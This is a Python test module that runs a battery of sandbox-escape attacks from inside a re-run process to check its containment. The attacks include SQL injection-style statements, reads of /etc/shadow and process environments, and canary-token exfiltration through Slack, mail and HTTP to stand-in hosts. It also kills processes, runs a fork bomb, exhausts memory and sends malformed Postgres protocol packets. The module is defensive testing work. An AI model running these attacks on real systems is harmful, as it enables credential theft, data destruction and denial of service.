"""Code that attacks from inside a re-run: each attack a stage, each answering what it could do.

The module is executed in the sandbox, and imported by the tests so that they know the stages.
"""

from __future__ import annotations

import ctypes
import os
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

import psycopg

from avenant.flows.reruns.child import main
from avenant.flows.reruns.scene import Scene
from avenant.flows.stages import Stage, declare

Answer = dict[str, str]
PLACES = ("/dev", "/etc", "/home", "/root", "/run", "/tmp", "/var")


def tried(work: Callable[[], object]) -> str:
    """What came of an attack: "did it: …", or what stopped it."""
    try:
        return f"did it: {work()}"
    except BaseException as error:
        return f"{type(error).__name__}: {error}"


def fresh(scene: Scene, user: str | None = None, database: str | None = None) -> psycopg.Connection[Any]:
    """A connection of the attacker's own, in no read-only transaction."""
    told = scene.connection.info
    return psycopg.connect(
        host=told.host,
        port=told.port,
        user=user or told.user,
        password=told.password,
        dbname=database or told.dbname,
        autocommit=True,
    )


def statement(scene: Scene, text: str) -> str:
    """What came of a statement, without a transaction around it."""

    def work() -> object:
        with fresh(scene) as connection:
            return connection.execute(text).statusmessage

    return tried(work)


def sql(*texts: str) -> Callable[[Scene], Answer]:
    return lambda scene: {text: statement(scene, text) for text in texts}


def within(*texts: str) -> Callable[[Scene], Answer]:
    """Statements that pass the relay, one after the other in read-only transactions of their own."""

    def attack(scene: Scene) -> Answer:
        found = {}
        with fresh(scene) as connection:
            for text in texts:
                found[text] = tried(lambda text=text: connection.execute(text).fetchall())  # type: ignore[misc]
        return found

    return attack


def by_orm(scene: Scene) -> Answer:
    def work() -> object:
        os.environ.setdefault("DJANGO_SETTINGS_MODULE", "avenant.settings")
        import django

        django.setup()
        from avenant.store.models import Provider

        return Provider.objects.create(ref="EVIL")

    return {"orm": tried(work)}


def as_others(scene: Scene) -> Answer:
    users = ("avenant_app", "postgres", "avenant_owner")
    found = {user: tried(lambda user=user: fresh(scene, user)) for user in users}  # type: ignore[misc]
    return found | {"another database": tried(lambda: fresh(scene, database="postgres"))}


def files(scene: Scene) -> Answer:
    reads = ["/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/1/mem"]
    places = [
        sys.prefix,
        str(Path(sys.modules["avenant"].__file__ or "").parent),
        "/",
        "/etc",
        "/run/database",
        "/dev",
        "/dev/shm",
    ]
    found = {f"read {path}": tried(lambda path=path: Path(path).read_bytes()) for path in reads}  # type: ignore[misc]
    for place in places:
        found[f"write {place}"] = tried(lambda place=place: Path(place, "evil").write_text("x"))  # type: ignore[misc]
    secrets = [str(path) for place in PLACES for path in Path(place).glob("*/passwords.json")]
    found["secrets"] = f"did it: {secrets}" if secrets else "none"
    found["large"] = tried(lambda: Path("/tmp/large").write_bytes(bytes(64 * 2**20)))
    return found


def sockets(scene: Scene) -> Answer:
    def tcp() -> object:
        return socket.create_connection(("127.0.0.1", 22), timeout=2)

    def servers() -> object:
        found = [str(path) for place in PLACES for path in Path(place).rglob(".s.PGSQL.*")]
        return [path for path in found if not path.startswith("/run/database/")]

    return {
        "tcp": tried(tcp),
        "past the interpreter": _by_the_system(("127.0.0.1", 22)),
        "servers": tried(servers),
        "interfaces": str(socket.if_nameindex()),
    }


def _by_the_system(address: tuple[str, int]) -> str:
    """A connection that the interpreter does not hear of."""
    libc = ctypes.CDLL(None, use_errno=True)
    host, port = address
    told = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))
    with socket.socket() as line:
        refused = libc.connect(line.fileno(), told, len(told))
        return f"OSError: {os.strerror(ctypes.get_errno())}" if refused else "did it: connected"


SECRET = "T0KENCANARY"


def _alert() -> object:
    from avenant.gateways.alerts import send

    return send(
        [f"slack://{SECRET}A/{SECRET}B/{SECRET}C", f"json://u:{SECRET}@127.0.0.1:9/"], "news", "M1 was upset"
    )


def _alert_of_its_own() -> object:
    from apprise import Apprise

    channel = Apprise([f"slack://{SECRET}"])
    return channel.notify("news")


def _mail() -> object:
    from django.conf import settings
    from django.core.mail import send_mail

    settings.configure(EMAIL_HOST="mail.example", EMAIL_HOST_PASSWORD=SECRET, EMAIL_PORT=25)
    return send_mail(SECRET, SECRET, "eve@example.org", ["ana@example.org"])


def _sign_in() -> object:
    import requests

    return requests.post("https://127.0.0.1:9/token", data={"client_secret": SECRET}, timeout=2)


def sends(scene: Scene) -> Answer:
    """By the program's own ways out, and by those that Python brings."""
    ways: dict[str, Callable[[], object]] = {
        "alert": _alert,
        "alert of its own": _alert_of_its_own,
        "mail": _mail,
        "sign-in": _sign_in,
        "request": lambda: urllib.request.urlopen(f"https://u:{SECRET}@127.0.0.1:9/{SECRET}", timeout=2),
        "datagram": lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(SECRET.encode(), ("127.0.0.1", 9)),
        "name": lambda: socket.getaddrinfo("name.example", 443),
        "program": lambda: subprocess.run(["/usr/bin/env", SECRET], check=False),
        "shell": lambda: os.system(f"/bin/echo {SECRET}"),
        "spawn": lambda: os.posix_spawn("/bin/echo", ["echo", SECRET], {}),
        "exec": lambda: os.execv("/bin/echo", ["echo", SECRET]),
    }
    return {name: tried(way) for name, way in ways.items()}


def environment(scene: Scene) -> Answer:
    from avenant import settings

    told = {name: value for name, value in os.environ.items() if name not in ("PATH", "HOME", "LANG", "TZ")}
    return {"environment": str(told), "settings": str((settings.SECRET_KEY, settings.DATABASES))}


def processes(scene: Scene) -> Answer:
    seen = [name for name in os.listdir("/proc") if name.isdigit()]
    return {
        "seen": str(len(seen)),
        "parent": tried(lambda: os.kill(os.getppid(), signal.SIGKILL)) if os.getppid() else "none",
        "user": str(os.getuid()),
        "become root": tried(lambda: os.setuid(0)),
    }


def kills_parents(scene: Scene) -> Answer:
    """The process above, its group, and every other process and group that can be seen."""
    others = {int(name) for name in os.listdir("/proc") if name.isdigit()} | {os.getppid()}
    others -= {0, os.getpid()}
    groups = {os.getpgid(other) for other in others} - {0, os.getpgid(0)}
    found = {f"kill {other}": tried(lambda other=other: os.kill(other, signal.SIGKILL)) for other in others}  # type: ignore[misc]
    kills = {f"kill group {one}": tried(lambda one=one: os.killpg(one, signal.SIGKILL)) for one in groups}  # type: ignore[misc]
    return found | kills | {"tried": str(len(found) + len(kills))}


def kills_all(scene: Scene) -> Answer:
    return {"killed": tried(lambda: (os.killpg(0, signal.SIGKILL), os.kill(-1, signal.SIGKILL)))}


def forks(scene: Scene) -> Answer:
    children = 0
    while children < 2_000:
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError as error:
            return {"forks": f"stopped after {children}: {error}"}
        children += 1
    return {"forks": f"did it: {children}"}


def sleeps(scene: Scene) -> Answer:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            time.sleep(600)
        except BaseException:
            continue


def sleeps_in_database(scene: Scene) -> Answer:
    return {"slept": tried(lambda: scene.connection.execute("SELECT pg_sleep(600)"))}


def allocates(scene: Scene) -> Answer:
    return {"memory": tried(lambda: len(bytearray(10 * 2**30)))}


def allocates_by_many(scene: Scene) -> Answer:
    """No process of them is large, and all together are."""
    for _ in range(12):
        if os.fork() == 0:
            held = bytearray(os.urandom(2**20)) * 100
            time.sleep(60)
            os._exit(len(held) % 2)
    time.sleep(60)
    return {"memory": "did it"}


def prints(scene: Scene) -> Answer:
    for _ in range(1_024):
        print("x" * 2**20)
    return {"printed": "did it"}


def recurses(scene: Scene) -> Answer:
    def deeper(depth: int) -> int:
        return deeper(depth + 1)

    return {"recursion": tried(lambda: deeper(0))}


class Unspeakable:
    """Raises whatever is asked of it."""

    def __repr__(self) -> str:
        raise RuntimeError("no repr")

    __str__ = __repr__

    def __getattr__(self, name: str) -> Any:
        raise RuntimeError(name)


def unspeakable(scene: Scene) -> Any:
    return [Unspeakable()]


def babbles(scene: Scene) -> Answer:
    for descriptor in range(3, 20):
        try:
            os.write(descriptor, b'{"not": "an event"}\n')
        except OSError:
            continue
    return {"babbled": "did it"}


def tells(scene: Scene) -> Answer:
    """A gigabyte of events, each as it should be, and small enough to come whole beside what the run itself tells."""
    event = b'[["log", null, "INFO", "evil", "%s", []]]\n' % (b"x" * 2**11)
    for _ in range(2**19):
        _told(event)
    return {"told": "did it"}


def nests(scene: Scene) -> Answer:
    """Valid, and deeper than a reader follows."""
    _told(b"[" * 100_000 + b"]" * 100_000 + b"\n")
    return {"nested": "did it"}


def _told(words: bytes) -> None:
    """Say it where events are said: that pipe lies somewhere among the open files."""
    for descriptor in range(3, 20):
        try:
            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                os.write(descriptor, words)
        except OSError:
            continue


def knocks(scene: Scene) -> Answer:
    """Words that no client of the database says, and more connections than the door has places."""
    info = scene.connection.info
    path, right = f"{info.host}/.s.PGSQL.{info.port}", {"user": info.user, "database": info.dbname}
    said = {
        "huge": struct.pack("!ii", 2**31 - 1, 196_608),
        "cancel": struct.pack("!iiii", 16, 80_877_102, 1, 1),
        "replication": _opening(**right, replication="database"),
        "options": _opening(**right, options="-c default_transaction_read_only=off"),
        "noise": os.urandom(64),
    }
    found = {name: tried(lambda words=words: _answered(path, words)) for name, words in said.items()}  # type: ignore[misc]
    many = [tried(lambda: fresh(scene)) for _ in range(20)]
    return found | {"many": f"{sum(each.startswith('did it') for each in many)} of 20"}


def _opening(**told: str) -> bytes:
    body = b"".join(f"{name}\0{value}\0".encode() for name, value in told.items()) + b"\0"
    return struct.pack("!ii", len(body) + 8, 196_608) + body


def _answered(path: str, words: bytes) -> str:
    """What is answered to these first words; an error where nothing but an error or silence comes."""
    with socket.socket(socket.AF_UNIX) as door:
        door.settimeout(5)
        door.connect(path)
        door.sendall(words)
        answer = door.recv(1_000)
    if answer[:1] in (b"", b"E"):
        raise ConnectionError(answer[:200].decode("utf-8", "replace") or "nothing is answered")
    return repr(answer[:20])


ATTACKS: dict[str, Callable[[Scene], Any]] = {
    "sql.write": sql(
        "INSERT INTO provider (ref) VALUES ('EVIL')",
        "UPDATE simulated_clock SET at = now()",
        "NOTIFY evil",
        "CREATE TEMP TABLE evil (n int)",
        "SET default_transaction_read_only = off",
        "DO $$ BEGIN PERFORM 1; END $$",
    ),
    "sql.sneak": sql(
        "SELECT 1; NOTIFY evil",
        "BEGIN READ WRITE",
        "/* SELECT */ TRUNCATE premium",
        "COPY provider (ref) FROM STDIN",
        "LISTEN evil",
        "CALL nothing()",
    ),
    "sql.functions": within(
        "SELECT nextval('member_ids')",
        "SELECT nextval('contract_ids')",
        "SELECT pg_notify('evil', 'x')",
        "SELECT pg_advisory_lock(7)",
        "SELECT pg_try_advisory_lock_shared(7)",
        "SELECT lo_create(0)",
        "SELECT lo_from_bytea(0, 'x')",
        "SELECT seal(NULL)",
        "SELECT rev_at(now())",
        "SELECT set_config('default_transaction_read_only', 'off', false)",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT pg_logical_emit_message(false, 'evil', 'x')",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT * FROM person_detail",
        "SELECT actor FROM change",
        "SELECT * FROM rerun_request",
        "SELECT rolpassword FROM pg_authid",
        "WITH evil AS (INSERT INTO provider (ref) VALUES ('EVIL') RETURNING 1) SELECT * FROM evil",
        "SELECT query_to_xml('INSERT INTO provider (ref) VALUES (''EVIL'')', true, true, '')",
        "COPY (SELECT 1) TO PROGRAM 'touch /tmp/evil'",
        "SELECT * FROM provider FOR UPDATE",
    ),
    "orm": by_orm,
    "roles": as_others,
    "files": files,
    "sockets": sockets,
    "sends": sends,
    "environment": environment,
    "processes": processes,
    "kills parents": kills_parents,
    "kills all": kills_all,
    "forks": forks,
    "sleeps": sleeps,
    "sleeps in the database": sleeps_in_database,
    "allocates": allocates,
    "allocates by many": allocates_by_many,
    "prints": prints,
    "tells": tells,
    "nests": nests,
    "knocks": knocks,
    "recurses": recurses,
    "unspeakable": unspeakable,
    "babbles": babbles,
}

for name, attack in ATTACKS.items():
    declare(Stage(f"attack.{name}", ("member",), lambda scene: (scene,), attack, modules=("attacking",)))

if __name__ == "__main__":
    main()
